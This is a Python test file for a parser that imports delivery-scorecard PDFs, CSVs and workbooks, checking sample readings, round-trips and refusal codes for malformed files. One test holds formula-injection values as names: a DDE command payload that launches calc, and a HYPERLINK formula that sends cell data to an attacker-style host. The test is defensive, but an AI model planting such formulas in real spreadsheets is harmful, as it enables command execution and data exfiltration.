"""Every sample reads as the list beside it says, and every negative one is refused for its own reason."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from pacenote.imports.parsers import RefusedFileError, read
from pacenote.imports.parsers.inspect import describe, describe_refusal
from pacenote.imports.parsers.serialize import from_lines, to_lines

SAMPLES = Path(__file__).parents[2] / "samples"
LISTED = json.loads((SAMPLES / "expected.json").read_text(encoding="utf-8"))["files"]
KNOWN = [entry for entry in LISTED if entry.get("inspect")]


def _ids(entry: dict[str, Any]) -> str:
    return str(entry["file"])


def _described(name: str) -> dict[str, Any]:
    path = SAMPLES / name
    return describe(read(path.read_bytes(), name=path.name), file=path.name)


def _expected(entry: dict[str, Any], got: dict[str, Any]) -> dict[str, Any]:
    """Return what must be there; null means that a figure is not checked, so the one that was read stands in."""
    wanted = {key: entry["inspect"][key] for key in ("kind", "rows", "people")}
    cadence = entry["inspect"]["cadence"]
    period = {key: entry["inspect"][key] for key in ("cadence", "start", "end")} if cadence else None
    readings = {
        metric: {
            "count": got["readings"][metric]["count"] if figures["count"] is None else figures["count"],
            "sum": pytest.approx(figures["sum"], abs=0.06),
        }
        for metric, figures in entry["inspect"]["readings"].items()
    }
    return {**wanted, "period": period, "readings": readings}


@pytest.mark.parametrize("entry", KNOWN, ids=_ids)
def test_a_sample_reads_as_its_list_says(entry: dict[str, Any]) -> None:
    got = _described(entry["file"])

    expected = _expected(entry, got)
    period = got["period"] and {key: got["period"][key] for key in ("cadence", "start", "end")}
    readings = {metric: got["readings"][metric] for metric in expected["readings"]}
    assert {
        "kind": got["kind"],
        "rows": got["rows"],
        "people": got["people"],
        "period": period,
        "readings": readings,
    } == (expected)


@pytest.mark.parametrize("entry", KNOWN, ids=_ids)
def test_a_sample_comes_back_whole_from_its_lines(entry: dict[str, Any]) -> None:
    path = SAMPLES / entry["file"]
    parsed = read(path.read_bytes(), name=path.name)

    assert from_lines(to_lines(parsed)) == parsed


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("route_sheet/Route Sheets PNTE 11-17-26.pdf", "unknown_kind"),
        ("truncated_pdf/US_PNTE_DXX1_Week37_2025_en_DSPScorecard.pdf", "broken_pdf"),
        ("password_pdf/US_PNTE_DXX1_Week40_2024_en_DSPScorecard.pdf", "password_protected"),
        ("empty_file/DSP_Overview_Dashboard_PNTE_DXX1_2026-W44.csv", "empty_file"),
        ("missing_page/US_PNTE_DXX1_Week45_2026_en_DSPScorecardPreview.pdf", "missing_pages"),
        ("pod_sums_wrong/US-PNTE-DXX1-Week45-2026NA-DA-POD-Details.pdf", "sums_disagree"),
    ],
)
def test_a_negative_sample_is_refused_with_a_sentence_and_a_hint(name: str, code: str) -> None:
    path = SAMPLES / "negative" / name

    with pytest.raises(RefusedFileError) as refusal:
        read(path.read_bytes(), name=path.name)

    told = describe_refusal(refusal.value, file=path.name)
    assert (told["ok"], told["error"]["code"]) == (False, code)
    assert told["error"]["message"].endswith(".")
    assert told["error"]["hint"]


def test_a_spreadsheet_saved_in_europe_gives_the_same_numbers() -> None:
    good = _described("overview_csv/DSP_Overview_Dashboard_PNTE_DXX1_2026-W43.csv")
    again = _described("negative/utf16_semicolon/DSP_Overview_Dashboard_PNTE_DXX1_2026-W43.csv")

    assert again == good


def test_a_workbook_named_csv_is_read_as_the_workbook_it_is() -> None:
    got = _described("negative/xlsx_named_csv/AssociateData.csv")

    assert (got["kind"], got["people"]) == ("associates", 65)


def test_formulas_in_names_stay_text() -> None:
    path = SAMPLES / "negative/formula_injection/Driver Report_2026-11-18.xlsx"

    parsed = read(path.read_bytes(), name=path.name)

    assert [row.person.name for row in parsed.readings][:3] == [
        "=cmd|' /C calc'!A0 Example1",
        '=HYPERLINK("https://evil.example.com/?x="&A1,"open") Example2',
        "+SUM(1,2) Example3",
    ]


@pytest.mark.parametrize(
    ("name", "company", "label"),
    [
        ("future_week/US_PNTE_DXX1_Week8_2031_en_DSPScorecard.pdf", "PNTE", "2031-W08"),
        ("other_company/US_QZTX_DXX9_Week45_2026_en_DSPScorecardPreview.pdf", "QZTX", "2026-W45"),
    ],
)
def test_what_only_the_import_can_judge_is_read_without_fault(name: str, company: str, label: str) -> None:
    got = _described(f"negative/{name}")

    assert (got["company"], got["period"]["label"]) == (company, label)


def test_one_endless_line_is_refused() -> None:
    line = b'"Week","Delivery Associate ","Transporter ID",'

    with pytest.raises(RefusedFileError) as refusal:
        read(line + b"x" * (10 * 1024 * 1024 - len(line)), name="one_line_10MB.csv")

    assert refusal.value.code == "too_long_line"
